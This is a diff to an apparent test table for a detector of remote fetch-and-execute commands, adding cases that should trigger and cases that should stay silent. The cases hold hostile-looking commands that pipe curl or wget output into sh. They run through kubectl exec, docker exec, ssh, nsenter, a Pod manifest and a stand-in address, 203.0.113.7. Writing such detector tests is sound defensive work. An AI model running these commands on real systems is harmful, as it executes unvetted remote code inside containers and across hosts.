@@ -48,6 +48,41 @@ indicatorTable(commandRemoteFetchExecute, {
     'an installer out of a commit that may be of a fork': script(
       'curl -s https://raw.githubusercontent.com/helm/helm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/get | bash',
     ),
+    'its own script, in a container that runs': of(
+      'ghcr.io/acme/tools',
+      `kubectl exec db-0 -- sh -c 'curl -s ${OWN} | sh'`,
+    ),
+    'its own script, handed into one': of('ghcr.io/acme/tools', `curl -s ${OWN} | kubectl exec -i db-0 -- sh`),
+    'its own script, on another host': of('ghcr.io/acme/tools', `ssh ops@10.0.0.4 'curl -s ${OWN} | sh'`),
+    'its own script as the text for another host': of('ghcr.io/acme/tools', `ssh ops@10.0.0.4 "$(curl -s ${OWN})"`),
+    'its own script, in a container of the runtime': of(
+      'ghcr.io/acme/tools',
+      `docker exec db sh -c 'curl -s ${OWN} | sh'`,
+    ),
+    'its own script, in a pod of another image': of(
+      'ghcr.io/acme/tools',
+      `echo '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"containers":[{"name":"main","image":"alpine","command":["sh","-c","curl -s ${OWN} | sh"]}]}}' | kubectl apply -f -`,
+    ),
+    'a commit of anybody, by the name that describes it': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN.replace('main', 'v1.0.0-1-g0a1b2c3')} | sh`,
+    ),
+    'a commit of anybody, by a step of none from it': of(
+      'ghcr.io/acme/tools',
+      `curl -s '${OWN.replace('main', '0a1b2c3^0')}' | sh`,
+    ),
+    'a commit of anybody, in a range that the client spreads': of(
+      'ghcr.io/acme/tools',
+      `curl -s '${OWN.replace('main', '[0-0]a1b2c3')}' | sh`,
+    ),
+    'a commit of anybody, in a list that the client spreads': script(
+      "curl -sLo k 'https://github.com/kubernetes/kubernetes/raw/{0a1b2c3}/k'; chmod +x k; ./k",
+    ),
+    'a merge request of anybody': of(
+      'registry.gitlab.com/acme/ops/tools:1',
+      'wget -qO- https://gitlab.com/acme/ops/-/raw/merge-requests/7/head/x.sh | sh',
+    ),
+    'a text for another host': script('ssh ops@10.0.0.4 "$(curl -s http://203.0.113.7/x)"'),
     'its own script, on the node': of('ghcr.io/acme/tools', `nsenter -t 1 -m -- sh -c 'curl -s ${OWN} | sh'`),
     'its own script and another one': of(
       'ghcr.io/acme/tools',
@@ -142,6 +177,14 @@ indicatorTable(commandRemoteFetchExecute, {
   },
   staysSilent: {
     'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
+    'a text for another host that names an address': script(
+      'ssh ops@10.0.0.4 "curl -s http://203.0.113.7/x -o /srv/x"',
+    ),
+    'a variable for another host': script('V=$(curl -s https://example.com/version); ssh ops@10.0.0.4 "echo $V"'),
+    'the same, by a tag with a version that nobody has seen': of(
+      'alpine',
+      'curl -sLo k "https://github.com/kubernetes/kubernetes/raw/${TAG}/k"; chmod +x k; ./k',
+    ),
     'the same from a branch, written whole': of(
       'ghcr.io/acme/tools',
       `curl -s ${OWN.replace('main', 'refs/heads/main')} | sh`,
